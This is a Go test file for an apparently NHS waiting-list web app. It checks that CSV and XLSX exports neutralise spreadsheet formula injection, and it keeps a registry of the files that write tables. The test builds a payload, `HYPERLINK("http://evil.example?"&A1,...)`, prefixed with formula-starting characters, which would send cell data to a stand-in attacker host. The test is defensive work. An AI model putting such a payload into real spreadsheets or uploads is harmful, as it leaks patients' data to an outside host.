package web_test

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"roundtable/care"
)

// signs begin what a spreadsheet takes for a formula.
var signs = []string{"=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "＝", "＋", "－", "＠"}

// runs reports whether a spreadsheet would take a cell's text for a formula; a number
// with its sign is shown as it stands.
func runs(cell string) bool {
	cell = strings.TrimLeft(cell, " ")
	return cell != "" && strings.ContainsRune("=+-@\t\r\n＝＋－＠", []rune(cell)[0]) && !regexp.MustCompile(`^[+-]?[0-9]+(\.[0-9]*)?$`).MatchString(cell)
}

// writers are the files whose code writes tables that people open in a spreadsheet,
// with what shows that they write no formula. A new writer is added here with its test.
var writers = map[string]string{
	"waiting/export.go":              "the list as CSV and XLSX, below",
	"intake/table/markupcsv.go":      "the sender's sheet as CSV, below",
	"intake/table/markupxlsx.go":     "the sender's sheet as XLSX, below",
	"intake/blank.go":                "blank sheets: our own words alone",
	"care/priorityagree.go":          "priority codes, below: such a text is refused when it is agreed",
	"cmd/roundtable/priorities.go":   "the same codes, tab-separated",
	"web/waiting/priorities.go":      "a form, read again at once by care.ParsePriorities",
	"people/linkage/made/csv.go":     "made-up files for trying the linking",
	"demo/book.go":                   "made-up files for trying the import",
	"web/sharing/subject.go":         "what is held about one person: every cell through waiting.SafeCell, in its one function sheet",
	"people/linkage/clk/file.go":     "codes and identifiers for the linkage unit's machine, which joins by them as they came",
	"cmd/roundtable/linkwrite.go":    "edges and clusters of `roundtable link`: identifiers for a machine, which joins by them as they came; the pairs for people to look at through waiting.SafeCell, in its own test",
	"cmd/roundtable/linkcodes.go":    "the same of `roundtable link-codes`",
	"people/linkage/sqlcolumns.go":   "records for a machine to link, as `COPY` and Splink read them: cleaned, and never opened by people",
	"cmd/roundtable/mineread.go":     "events that `roundtable mine` could not use: every cell of theirs through waiting.SafeCell, in its script",
	"sessions/sheet.go":              "a session's list: every cell through waiting.SafeCell, in sessions: TestSheetsRunNoFormula",
	"servicemap/directory/dos.go":    "services for another directory: every cell through safe, in servicemap/directory: TestNoCellRunsAsAFormula",
	"servicemap/directory/people.go": "figures as a page has them in a field to be typed into: no file, and opened by no spreadsheet",
	"web/sessions/place.go":          "a transfer's fields: each through waiting.SafeCell in sessions.Transfer.Table, in the same tests",
	"demo/waits.go":                  "made-up files for trying the import",
}

func TestEveryWriterOfTablesIsKnown(t *testing.T) {
	writes := regexp.MustCompile(`csv\.NewWriter\(|excelize\.NewFile\(|csvWriter\{`)
	err := filepath.WalkDir("..", func(name string, d os.DirEntry, err error) error {
		if err != nil || d.IsDir() || !strings.HasSuffix(name, ".go") || strings.HasSuffix(name, "_test.go") {
			return err
		}
		b, err := os.ReadFile(name)
		name = filepath.ToSlash(strings.TrimPrefix(name, ".."+string(filepath.Separator)))
		if err == nil && writes.Match(b) && writers[name] == "" {
			t.Errorf("%s writes tables: show here that no cell of them is a formula", name)
		}
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
}

// What partners, and people beside their rows, write into cells comes out of every
// table as text.
func TestNoTableThatIsWrittenHoldsAFormula(t *testing.T) {
	v := founded(t, false)
	var list bytes.Buffer
	in := csv.NewWriter(&list)
	head := []string{"Patient", "NHS No", "DOB", "Referral date", "Treatment function", "Team", "Priority", "Referral reason", "Local patient ID", "Comments", "=1+1", "Owner", "Next action"}
	_ = in.Write(head)
	book := excelize.NewFile()
	_ = book.SetSheetRow("Sheet1", "A1", &head)
	numbers := []string{"9434765919", "9434765870"}
	for i, sign := range signs {
		bad := sign + `HYPERLINK("http://evil.example?"&A1,"x")`
		row := []string{bad + ", " + bad, "", fmt.Sprintf("%02d/04/1950", i+1), "12/01/2025", bad, bad, bad, bad, bad, bad, bad, bad, bad}
		if i < len(numbers) {
			row[1] = numbers[i]
		}
		_ = in.Write(row)
		_ = book.SetSheetRow("Sheet1", fmt.Sprintf("A%d", i+2), &row)
	}
	in.Flush()
	var sheet bytes.Buffer
	if err := book.Write(&sheet); err != nil {
		t.Fatal(err)
	}
	var extracts []string
	for code, f := range map[string]attached{"RXN": {"=north.csv", list.Bytes()}, "RXS": {"@south.xlsx", sheet.Bytes()}} {
		res := v.bring("new "+code, f)
		extracts = append(extracts, find(t, res.body, `href="(/extracts/\d+)"`))
	}
	pathway := find(t, v.get("/list").is(200).body, `href="(/pathways/[^"?]+)`)
	for _, do := range []string{"comment", "action", "owner"} {
		v.post(pathway, "do", do, "version", "0", "comment", "=1+1", "action", "=1+1", "owner", "=1+1", "due", "2099-01-01")
	}
	tables := []string{"/list.csv", "/list.xlsx"}
	for _, x := range extracts {
		tables = append(tables, x+"/marked-up", x+"/marked-up?rows=bad")
	}
	for _, path := range tables {
		a := v.get(path).is(200)
		cells := cellsOf(t, path, a)
		if !slices.ContainsFunc(cells, func(c string) bool { return strings.Contains(c, "HYPERLINK") }) {
			t.Errorf("%s holds none of what was brought", path)
		}
		for _, c := range cells {
			if runs(c) {
				t.Errorf("%s holds %q", path, c)
			}
		}
	}
	base, err := care.ParsePriorities("version,code,scheme,label,target_days,source\n1,P1,surgery,First,1,\n")
	if err != nil {
		t.Fatal(err)
	}
	for _, sign := range signs {
		if _, err := base.With("2", care.Priority{Code: "P1", Scheme: "surgery", Label: sign + "1+1", TargetDays: 1}); err == nil {
			t.Errorf("a priority called %q was agreed", sign+"1+1")
		}
	}
}

// cellsOf are the cells of a table as a spreadsheet would take them. In a workbook a
// text is a text whatever it begins with; what runs there is a formula.
func cellsOf(t *testing.T, path string, a *answer) (out []string) {
	t.Helper()
	if !strings.HasPrefix(a.body, "PK") {
		rows := csv.NewReader(strings.NewReader(strings.TrimPrefix(a.body, "\ufeff")))
		rows.FieldsPerRecord, rows.LazyQuotes = -1, true
		all, err := rows.ReadAll()
		if err != nil {
			t.Fatalf("%s: %v", path, err)
		}
		return slices.Concat(all...)
	}
	book, err := excelize.OpenReader(strings.NewReader(a.body))
	if err != nil {
		t.Fatalf("%s: %v", path, err)
	}
	defer book.Close()
	for _, name := range book.GetSheetList() {
		rows, err := book.GetRows(name)
		if err != nil {
			t.Fatal(err)
		}
		for r, row := range rows {
			for c, text := range row {
				at, _ := excelize.CoordinatesToCellName(c+1, r+1)
				formula, _ := book.GetCellFormula(name, at)
				link, _, _ := book.GetCellHyperLink(name, at)
				if formula != "" || link {
					out = append(out, "="+formula)
				}
				out = append(out, "text: "+text)
			}
		}
	}
	return out
}
